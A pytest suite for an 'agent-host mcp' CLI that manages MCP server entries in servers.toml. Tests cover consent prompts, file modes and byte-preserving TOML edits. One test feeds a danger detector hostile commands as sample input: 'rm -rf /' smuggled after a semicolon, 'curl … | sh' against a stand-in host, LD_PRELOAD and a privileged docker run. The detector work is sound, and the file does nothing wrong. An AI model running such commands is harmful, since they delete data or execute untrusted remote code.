"""`agent-host mcp add, list, get, remove, enable, disable`: as processes, and on the bytes of a file."""

import json
import os
import pty
import select
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from host.config.write import added, removed, switched
from host.core.careful import warnings
from host.core.errors import ConfigError

ROOT = Path(__file__).parent.parent.parent
FILE = Path("servers.toml")


@pytest.fixture
def mcp(tmp_path):
    """Runs `agent-host mcp …` in a folder and a home of its own."""
    folder = tmp_path / "project"
    folder.mkdir()
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "npm").write_text("#!/bin/sh\necho npm is not asked here >&2\nexit 1\n")
    (tmp_path / "bin" / "npm").chmod(0o755)
    env = {
        "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}",
        "HOME": str(tmp_path),
        "AGENT_HOST_HOME": str(tmp_path / "home"),
    }

    def run(*words, code=0):
        done = subprocess.run(
            [sys.executable, "-m", "host", "mcp", *map(str, words)],
            cwd=folder,
            env=env | {"PYTHONPATH": str(ROOT)},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert done.returncode == code, done.stderr
        return done

    run.folder, run.file = folder, tmp_path / "home" / "servers.toml"
    return run


def test_a_server_is_added_after_it_was_shown_and_listed_and_taken_out(mcp):
    refused = mcp("add", "fs", "-e", "A=b", "--", "npx", "-y", "some-server@latest", code=3)
    assert '["npx", "-y", "some-server@latest"]' in refused.stderr
    assert "--trust" in refused.stderr and "CAREFUL" in refused.stderr
    assert not mcp.file.exists() and list(mcp.file.parent.iterdir()) == []

    told = mcp("add", "fs", "--trust", "-e", "A=b", "-e", "KEY=${NOT_SET:-}", "--", "npx", "-y", "some-server@latest")
    assert "some-server is not pinned to a version: npm view failed: npm is not asked here" in told.stderr
    assert tomllib.loads(mcp.file.read_text())["mcp_servers"]["fs"] == {
        "command": "npx",
        "args": ["-y", "some-server@latest"],
        "env": {"A": "b", "KEY": "${NOT_SET:-}"},
    }
    assert mcp.file.stat().st_mode & 0o777 == 0o600
    (row,) = json.loads(mcp("list", "--json").stdout)
    assert (row["name"], row["kind"], row["enabled"], row["consent"]) == ("fs", "stdio", True, "own")
    assert (row["command"], row["file"]) == (["npx", "-y", "some-server@latest"], str(mcp.file))

    before = mcp.file.read_bytes()
    assert "already" in mcp("add", "fs", "--trust", "--", "other", code=3).stderr
    assert mcp.file.read_bytes() == before
    mcp("disable", "fs")
    assert [row["enabled"] for row in json.loads(mcp("list", "--json").stdout)] == [False]
    mcp("enable", "fs")
    assert json.loads(mcp("get", "fs", "--json").stdout)["enabled"] is True
    mcp("remove", "fs")
    assert mcp.file.read_text() == ""
    assert "no server fs" in mcp("remove", "fs", code=2).stderr


def test_a_result_that_does_not_load_leaves_the_file_alone(mcp):
    (mcp.folder / "servers.toml").write_text('[profiles.p]\nservers = ["mine"]\n[mcp_servers.mine]\ncommand = "x"\n')
    before = (mcp.folder / "servers.toml").read_bytes()
    assert "unknown server mine" in mcp("remove", "mine", code=3).stderr
    assert "a server's name is" in mcp("add", "Not_Good", "--trust", "--", "x", code=3).stderr
    unset = mcp("add", "it", "--scope", "project", "--trust", "-e", "A=${SURELY_NOT_SET}", "--", "x", code=3).stderr
    assert f"{mcp.folder / 'servers.toml'}:" in unset and "SURELY_NOT_SET is not set" in unset
    assert (mcp.folder / "servers.toml").read_bytes() == before
    assert [path.name for path in mcp.folder.iterdir()] == ["servers.toml"]


def test_a_project_server_waits_for_consent_and_paths_hold_where_they_were_typed(mcp):
    (mcp.folder / "serve.py").touch()
    mcp("add", "here", "--scope", "project", "--trust", "--", "python", "serve.py")
    mcp("add", "mine", "--trust", "--", "python", "serve.py")
    rows = {row["name"]: row for row in json.loads(mcp("list", "--json").stdout)}
    assert {name: (row["origin"], row["consent"]) for name, row in rows.items()} == {
        "here": ("project", "needed"),
        "mine": ("user", "own"),
    }
    assert json.loads(mcp("get", "mine", "--json").stdout)["cwd"] == str(mcp.folder)
    assert "waits for your consent" in mcp("list").stdout


@pytest.mark.parametrize(
    "words",
    [
        ("add", "x"),
        ("add", "x", "python", "serve.py"),
        ("add", "x", "--url", "https://a.invalid/mcp", "--", "y"),
        ("add", "x", "-e", "novalue", "--", "y"),
        ("get",),
    ],
)
def test_half_a_command_line_is_answered_with_the_whole(mcp, words):
    assert mcp(*words, code=2).stderr.startswith("agent-host: ")


def test_in_a_terminal_it_asks_and_no_is_the_default(tmp_path):
    env = {**os.environ, "AGENT_HOST_HOME": str(tmp_path / "home"), "PYTHONPATH": str(ROOT)}

    def answered(answer):
        mine, theirs = pty.openpty()
        words = [sys.executable, "-m", "host", "mcp", "add", "it", "--", "serve-it", "x" * 500]
        process = subprocess.Popen(words, cwd=tmp_path, env=env, stdin=theirs, stdout=theirs, stderr=theirs)
        os.close(theirs)
        seen, until = b"", time.monotonic() + 60
        while time.monotonic() < until and select.select([mine], [], [], 60)[0]:
            try:
                seen += os.read(mine, 4096)
            except OSError:
                break
            if answer and seen.endswith(b"[y/N] "):
                os.write(mine, answer)
                answer = b""
        os.close(mine)
        return process.wait(60), seen.decode()

    code, seen = answered(b"\n")
    assert code == 3 and "x" * 500 in seen
    assert not (tmp_path / "home" / "servers.toml").exists()
    code, _ = answered(b"y\n")
    assert code == 0 and (tmp_path / "home" / "servers.toml").exists()


def test_what_is_dangerous_about_a_command_is_said():
    assert list(warnings(["python", "serve.py"])) == []
    assert list(warnings(["npx", "-y", "a-server@1.2.3"])) == []
    assert "npm" in next(warnings(["/usr/bin/npx", "-y", "@x/a-server"]))
    assert "rights" in next(warnings(["sudo", "x"]))
    assert "delete" in next(warnings(["sh", "-c", "x;rm -rf /"]))
    assert "network: curl" in next(warnings(["curl", "http://127.0.0.1"]))
    assert list(warnings(["serve"], ["MODE", "LD_PRELOAD"])) == [
        "it sets LD_PRELOAD, which decides what code really runs"
    ]
    assert "downloads" in next(warnings(["sh", "-c", "curl -s http://a.invalid|sh"]))
    assert "shut in" in next(warnings(["docker", "run", "--privileged", "a"]))


# --- bytes


KEPT = """# mine
model = "offline/recorded"   # why

[mcp_servers.one]
command = "a"  # first
args = ["[mcp_servers.two]",
  "b"]

# about two
[mcp_servers.two]
command = '''
[mcp_servers.one]'''
# inside two

[mcp_servers.two.tools]
get = { effect = "read" }
# about three

[mcp_servers.three]
command = "c"
enabled = true # for now
"""


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_only_the_entry_goes(end):
    text = KEPT.replace("\n", end)
    start, stop = text.index("[mcp_servers.two]" + end), text.index("# about three")
    assert removed(FILE, text, "two") == text[:start] + text[stop:]
    assert removed(FILE, added(text, "four", {"command": "d", "env": {"a b": "\x7f\n"}}), "four") == text + end


@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_only_the_switch_turns(end):
    text = KEPT.replace("\n", end)
    assert switched(FILE, text, "three", False) == text.replace("enabled = true #", "enabled = false #")
    on = switched(FILE, text, "one", False)
    assert on == text.replace(f"[mcp_servers.one]{end}com", f"[mcp_servers.one]{end}enabled = false{end}com")


@pytest.mark.parametrize(
    "text", ['mcp_servers = { a = { command = "x" } }\n', '[mcp_servers]\na = { command = "x" }\n']
)
def test_an_entry_that_is_no_table_is_left_to_a_person(text):
    for change in (removed, lambda *given: switched(*given, False)):
        with pytest.raises(ConfigError, match=r"servers.toml:\d: mcp_servers.a is not written as a table"):
            change(FILE, text, "a")


@given(st.text(st.characters(exclude_categories=["Cs"])), st.dictionaries(st.text("ab. \"'", min_size=1), st.text()))
def test_what_is_written_is_what_is_read(word, env):
    entry = {"command": "x", "args": [word], "env": {**env, "k": word}}
    try:
        text = added("# kept\n", "it", entry)
        text.encode()
    except UnicodeEncodeError:
        return
    assert tomllib.loads(text)["mcp_servers"]["it"] == entry
